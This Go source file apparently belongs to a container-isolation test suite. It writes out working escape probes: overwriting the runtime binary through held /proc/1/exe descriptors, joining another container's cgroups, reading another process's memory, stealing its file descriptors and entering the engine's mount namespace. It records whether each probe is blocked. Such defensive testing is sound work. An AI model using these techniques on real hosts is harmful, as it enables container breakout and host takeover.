package main

import (
	"cmp"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// keep opens the program of process 1 while it is the runtime's and tries to write to it
// when nothing executes it any more. It notes the line in a file.
func keep(file string) error {
	const name = "write to the runtime's program that a hook has kept"
	verdict := attack{name: name, held: []error{eperm, unix.ETXTBSY}}.verdict(keepAndWrite())
	return os.WriteFile(file, []byte(verdict+"\n"), 0o644)
}

func keepAndWrite() error {
	program, err := os.Readlink("/proc/1/exe")
	if err != nil || program == ownProgram {
		return fmt.Errorf("process 1 executes %q, not the runtime's program: %w", program, cmp.Or(err, errWrong))
	}
	var kept []int
	for _, flags := range []int{unix.O_RDONLY, unix.O_PATH} {
		fd, err := unix.Open("/proc/1/exe", flags|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		kept = append(kept, fd)
	}
	for now := program; now == program; now, _ = os.Readlink("/proc/1/exe") {
		time.Sleep(10 * time.Millisecond)
	}
	for _, fd := range kept {
		if err = writeProgram("/proc/self/fd/" + strconv.Itoa(fd)); err == nil {
			return nil
		}
	}
	return err
}

// silence makes a socket that never answers, for an init that is the runtime's program and
// asks there, and returns when it is there.
func silence() error {
	cmd := exec.Command(ownProgram, "silent")
	if err := cmd.Start(); err != nil {
		return err
	}
	for range 600 {
		if _, err := os.Stat(silentSocket); err == nil {
			return nil
		}
		time.Sleep(10 * time.Millisecond)
	}
	return fmt.Errorf("%s has not come", silentSocket)
}

const silentSocket = "/run/silent"

func silent() error {
	l, err := net.Listen("unix", silentSocket)
	if err != nil {
		return err
	}
	var open []net.Conn
	for err == nil {
		var c net.Conn
		c, err = l.Accept()
		open = append(open, c)
	}
	return fmt.Errorf("%w after %d connections", err, len(open))
}

// moveToOther mounts every tree of control groups, moves this process into the groups of the
// container sdk and asks as sdk may.
func moveToOther() error {
	moved := false
	for i, options := range hierarchies() {
		dir := "/run/tree-" + strconv.Itoa(i)
		typ := "cgroup"
		if options == "" {
			typ = "cgroup2"
		}
		if err := os.MkdirAll(dir, 0o755); err != nil {
			return err
		}
		if err := unix.Mount("none", dir, typ, 0, options); err != nil {
			continue
		}
		moved = enterSDK(dir) || moved
		_ = unix.Unmount(dir, unix.MNT_DETACH)
	}
	if !moved {
		return errors.New("no group of the container sdk was found")
	}
	return asks("GET", "/containers", "")()
}

// hierarchies returns the mount options of the trees of control groups, "" for cgroup v2.
func hierarchies() (list []string) {
	text, _ := os.ReadFile("/proc/self/cgroup")
	for line := range strings.Lines(string(text)) {
		if f := strings.SplitN(line, ":", 3); len(f) == 3 {
			options := f[1]
			if strings.HasPrefix(options, "name=") {
				options = "none," + options
			}
			list = append(list, options)
		}
	}
	return list
}

// enterSDK moves this process into the group lxc/sdk somewhere below a directory.
func enterSDK(dir string) (moved bool) {
	_ = filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err == nil && e.IsDir() && e.Name() == "sdk" {
			moved = os.WriteFile(filepath.Join(p, "cgroup.procs"), []byte("0"), 0) == nil || moved
		}
		return nil
	})
	return moved
}

// enginePID finds the engine among the device's processes; 0 when it cannot be seen.
func enginePID() int {
	for _, pid := range processes() {
		text, _ := os.ReadFile("/proc/" + pid + "/cmdline")
		words := strings.Split(string(text), "\x00")
		if len(words) > 1 && slices.Contains([]string{"-i", "engine"}, words[1]) {
			n, _ := strconv.Atoi(pid)
			return n
		}
	}
	return 0
}

func readEngine() error {
	b := make([]byte, 8)
	local := []unix.Iovec{{Base: &b[0]}}
	local[0].SetLen(len(b))
	_, err := unix.ProcessVMReadv(enginePID(), local, []unix.RemoteIovec{{Base: 0x400000, Len: len(b)}}, 0)
	if errors.Is(err, unix.EFAULT) { // the right is there, the address is not
		return nil
	}
	return err
}

func takeDescriptor() error {
	pidfd, err := unix.PidfdOpen(enginePID(), 0)
	if err != nil {
		return err
	}
	_, err = unix.PidfdGetfd(pidfd, 1, 0)
	return err
}

func writeEngine() error {
	err := opensFor(unix.O_RDWR, fmt.Sprintf("/proc/%d/exe", enginePID()))
	if errors.Is(err, unix.ETXTBSY) { // it can be reached
		return nil
	}
	return err
}

func joinEngine() error {
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/mnt", enginePID()), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return permitted(unix.Setns(fd, unix.CLONE_NEWNS))
}
